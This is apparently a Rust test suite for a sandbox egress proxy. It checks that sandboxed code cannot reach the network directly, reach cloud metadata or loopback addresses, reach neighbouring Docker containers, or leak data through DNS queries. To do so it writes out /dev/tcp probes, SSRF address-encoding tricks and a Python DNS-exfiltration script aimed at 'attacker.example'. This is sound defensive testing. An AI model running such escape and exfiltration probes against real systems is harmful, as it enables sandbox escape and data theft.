//! Nothing leaves but through the proxy, and the proxy leads nowhere inwards.

use std::fs;
use std::net::TcpListener;
use std::process::Command;

use crate::internet::{Internet, SERVER, bash, text};
use crate::machine::{Feature, image, is_there};
use crate::{ask, everywhere, first_line};

/// Everything that could be sent without a proxy: each line says what has gone.
const DIRECT: &str = r#"
try() { name=$1; shift; if timeout 2 "$@" 2>/dev/null; then echo "left: $name"; fi; }
try tcp bash -c 'exec 3<>/dev/tcp/198.51.100.7/8080'
try udp bash -c 'echo x >/dev/udp/198.51.100.7/53'
try host bash -c 'exec 3<>/dev/tcp/127.0.0.1/8080'
try metadata bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'
try ipv6 bash -c 'exec 3<>/dev/tcp/2001:db8::1/80'
try resolver bash -c 'echo x >/dev/udp/203.0.113.1/53'
grep -v -e '^ *lo:' -e '|' /proc/net/dev
tail -n +2 /proc/net/route
echo done
"#;

#[test]
fn nothing_leaves_without_the_proxy() {
    everywhere("direct ways out", |place, internet, who| {
        // The control: whoever is on this internet itself sends all of it.
        let outside = text(&internet.command(&place.outside(&bash(DIRECT))).output().unwrap());
        for way in ["tcp", "udp", "host", "metadata", "ipv6", "resolver"] {
            assert!(outside.contains(&format!("left: {way}\n")), "{who}: {outside}");
        }
        for flags in [&[][..], &["--allow-host", "up.example.org:8080"]] {
            let output = internet.run(place, flags, &bash(DIRECT));
            assert_eq!(text(&output), "done\n", "{who} with {flags:?}: {output:?}");
        }
    });
}

#[test]
fn the_proxy_leads_nowhere_inwards() {
    everywhere("ways inwards", |place, internet, who| {
        let hosts = [
            "127.0.0.1:8080", "localhost:8080", "[::1]:8080", "[::ffff:127.0.0.1]:8080", "0.0.0.0:8080",
            "2130706433:8080", "0177.0.0.1:8080", "127.1:8080", "169.254.169.254:80", "[fd00:ec2::254]:80",
            "inward.example.org:8080", "private.example.org:80", "mixed.example.org:8080",
            "metadata.example.org:80", "metadata6.example.org:80", "metadata-too.example.org:80",
            "up.example.org:22",
        ];
        let connect = |host: &str| {
            let request =
                format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
            format!("echo 'to {host}'; {}", first_line(&request))
        };
        let asked = hosts.map(connect);
        let flags = ["--allow-host=*.example.org:8080", "--allow-host=*.example.org:80"];
        let output = internet.run(place, &flags, &bash(&asked.join("\n")));
        let said = text(&output).replace('\r', "");
        for host in hosts {
            assert!(
                said.contains(&format!("to {host}\nHTTP/1.1 403 Forbidden\n")),
                "{who}: {host} was not refused: {said} {output:?}"
            );
        }
        // Without a proxy, a name has an address inside, and nobody answers there.
        let direct = ["metadata", "metadata6", "metadata-too"].map(|name| {
            format!(
                "(exec 3<>/dev/tcp/{name}.example.org/80 && echo connected && printf 'GET / HTTP/1.1\\r\\nHost: {name}.example.org\\r\\n\\r\\n' >&3 &&
                timeout 10 cat <&3)"
            )
        });
        let output = internet.run(place, &flags, &bash(&direct.join("\n")));
        assert_eq!(text(&output).matches("connected").count(), 3, "{who}: {output:?}");
        assert!(!text(&output).contains("served"), "{who}: {output:?}");
        let came = internet.requests();
        assert!(came.iter().all(|line| line.starts_with("dns ")), "{who}: somebody has connected: {came:?}");

        // The control: these servers are there, and the proxy reaches one, where a rule names just that address.
        let internet = Internet::of(place);
        let output = internet.run(place, &["--allow-host=127.0.0.1:8080"], &bash(&connect("127.0.0.1:8080")));
        assert_eq!(text(&output).matches("HTTP/1.1 200 ").count(), 1, "{who}: {output:?}");
        for (path, host) in
            [("169.254.169.254", "169.254.169.254:80"), ("fd00:ec2::254", "[fd00:ec2::254]:80")]
        {
            let ask = format!(
                "exec 3<>/dev/tcp/{path}/80; printf 'GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3"
            );
            let mut outside = Command::new("bash");
            outside.args(["-c", &ask]).current_dir("/");
            let reached = internet.command(&outside).output().unwrap();
            assert!(text(&reached).contains("served GET /"), "{who}: {reached:?}");
            // No rule names a metadata service.
            let refused = internet.run(place, &[&format!("--allow-host={host}")], &["true"]);
            assert_eq!(refused.status.code(), Some(2), "{who}: {refused:?}");
            let error = String::from_utf8_lossy(&refused.stderr);
            assert!(error.contains("metadata service") && error.contains("never allowed"), "{who}: {error}");
        }
    });
}

/// Asks for a name in every way there is, and says of none what came of it: that is seen where the questions arrive.
const ASK: &str = r#"
import socket, struct, sys
name, *resolvers = sys.argv[1:]

def attempt(action):
    try:
        action()
    except OSError:
        pass

def question(kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)

def datagram(resolver, kind):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.settimeout(2)
        asked.connect((resolver, 53))
        asked.send(question(kind))
        asked.recv(512)

def stream(address, *sent):
    with socket.create_connection(address, 2) as asked:
        for one in sent:
            asked.sendall(one)
            asked.recv(512)

attempt(lambda: socket.getaddrinfo(name, 80))
for resolver in resolvers:
    # A, TXT, NULL and ANY.
    for kind in 1, 16, 10, 255:
        attempt(lambda: datagram(resolver, kind))
    attempt(lambda: stream((resolver, 53), struct.pack(">H", len(question(1))) + question(1)))
proxy, host = ("127.0.0.1", 61080), name.encode()
attempt(lambda: stream(proxy, b"CONNECT %s:443 HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)))
attempt(lambda: stream(proxy, b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)))
attempt(lambda: stream(proxy, b"\5\1\0", b"\5\1\0\3" + bytes([len(host)]) + host + b"\0\x50"))
print("asked")
"#;

#[test]
fn no_name_carries_anything_out() {
    everywhere("data in names", |place, internet, who| {
        let name = "data.labels.attacker.example";
        let outside = fs::read_to_string("/etc/resolv.conf").unwrap();
        let outside = outside.lines().filter_map(|line| line.strip_prefix("nameserver ")).map(str::trim);
        let resolvers: Vec<_> = outside.chain(["127.0.0.53", "203.0.113.1", SERVER]).collect();
        let argv = [&["python3", "-c", ASK, name][..], &resolvers].concat();
        let arrived = |internet: Internet| {
            internet.requests().into_iter().filter(|line| line.ends_with(name)).collect::<Vec<_>>()
        };
        // The control: whoever is on this internet asks, and the question arrives; and so it does from the proxy, where a rule
        // allows that name and somebody connects to it.
        let control = Internet::of(place);
        let output = control.command(&place.outside(&argv)).output().unwrap();
        assert_eq!(text(&output), "asked\n", "{who}: {output:?}");
        assert!(arrived(control).len() >= 5, "{who}: in the control");
        let control = Internet::of(place);
        let output = control.run(place, &["--allow-host=*.attacker.example:443"], &argv);
        assert_eq!(text(&output), "asked\n", "{who}: {output:?}");
        // For both kinds of address, once: the questions themselves were not passed on.
        assert!(matches!(arrived(control).len(), 1..=2), "{who}: by a rule");

        for flags in [&[][..], &["--allow-host=up.example.org", "--allow-host=*.example.org:80"]] {
            let output = internet.run(place, flags, &argv);
            assert_eq!(text(&output), "asked\n", "{who} with {flags:?}: {output:?}");
        }
        assert_eq!(internet.requests(), [""; 0], "{who}");
    });
}

/// A container of somebody else, on the bridge of the engine.
struct Neighbour(String);

impl Neighbour {
    fn start() -> Self {
        let server = ["python3", "-m", "http.server", "8000"];
        let neighbour = Self(docker(&[&["run", "--detach", "--rm", &image()][..], &server].concat()));
        assert!(!neighbour.0.is_empty());
        neighbour
    }

    fn address(&self, field: &str) -> String {
        let format = format!("{{{{range .NetworkSettings.Networks}}}}{{{{.{field}}}}}{{{{end}}}}");
        docker(&["inspect", "--format", &format, &self.0])
    }
}

impl Drop for Neighbour {
    fn drop(&mut self) {
        docker(&["kill", &self.0]);
    }
}

fn docker(words: &[&str]) -> String {
    let output = Command::new("docker").args(words).output().unwrap();
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

#[test]
fn neither_containers_nor_their_bridge_are_reached() {
    let test = "containers beside a sandbox";
    if !is_there(Feature::Docker, test) {
        return;
    }
    let (neighbour, host) = (Neighbour::start(), TcpListener::bind("0.0.0.0:0").unwrap());
    let bridge = format!("{}:{}", neighbour.address("Gateway"), host.local_addr().unwrap().port());
    let hosts = [format!("{}:8000", neighbour.address("IPAddress")), bridge];
    let direct = hosts.each_ref().map(|host| {
        let path = host.replace(':', "/");
        format!("until (exec 3<>/dev/tcp/{path}) 2>/dev/null; do [ $((attempt++)) -lt ${{1:-1}} ] || {{ echo \"not {host}\"; break; }}; done; attempt=0")
    });
    let direct = direct.join("\n");
    // The control: any other container reaches both.
    let other = ["run", "--rm", &image(), "bash", "-c", &direct, "bash", "100000"];
    assert_eq!(docker(&other), "", "the control");
    everywhere(test, |place, _, who| {
        let proxied = hosts.each_ref().map(|host| {
            let request = format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n");
            format!("({}) 2>&1", first_line(&request))
        });
        let script = [&[direct.clone()][..], &proxied].concat().join("\n");
        // The client is on this host itself, whose bridge it is.
        let run = |flags: &[String]| text(&place.inside(flags, &bash(&script)).output().unwrap());
        let not = hosts.each_ref().map(|host| format!("not {host}\n")).concat();
        let closed = run(&[]);
        assert!(
            closed.starts_with(&not) && closed.matches("61080: Connection refused").count() == 2,
            "{who}: {closed}"
        );
        let refused = run(&["--allow-host=*.example.org".to_owned()]);
        assert_eq!(refused.replace('\r', ""), not.clone() + &"HTTP/1.1 403 Forbidden\n".repeat(2), "{who}");
        // The proxy could: where rules name just these addresses, it does, and there is no other way then either.
        let allowed = run(&hosts.each_ref().map(|host| format!("--allow-host={host}")));
        assert!(
            allowed.starts_with(&not) && allowed.matches("HTTP/1.1 200 ").count() == 2,
            "{who}: {allowed}"
        );
    });
}

#[test]
fn without_a_list_nobody_answers_where_the_proxy_would() {
    everywhere("no proxy", |place, internet, who| {
        let script =
            "env | grep -ci proxy; (exec 3<>/dev/tcp/127.0.0.1/61080) 2>/dev/null && echo open; echo done";
        let output = internet.run(place, &[], &bash(script));
        assert_eq!(text(&output), "0\ndone\n", "{who}: {output:?}");
    });
}

#[test]
fn a_name_is_not_looked_up_where_no_rule_asks_for_it() {
    everywhere("no look-ups", |place, internet, who| {
        let script =
            ask(&format!("CONNECT {SERVER}:8080 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n"));
        let output = internet.run(place, &["--allow-host", "up.example.org:8080"], &bash(&script));
        // An address is no name: the rule is about the name alone.
        assert!(text(&output).starts_with("HTTP/1.1 403"), "{who}: {output:?}");
        assert_eq!(internet.requests(), [""; 0], "{who}");
    });
}
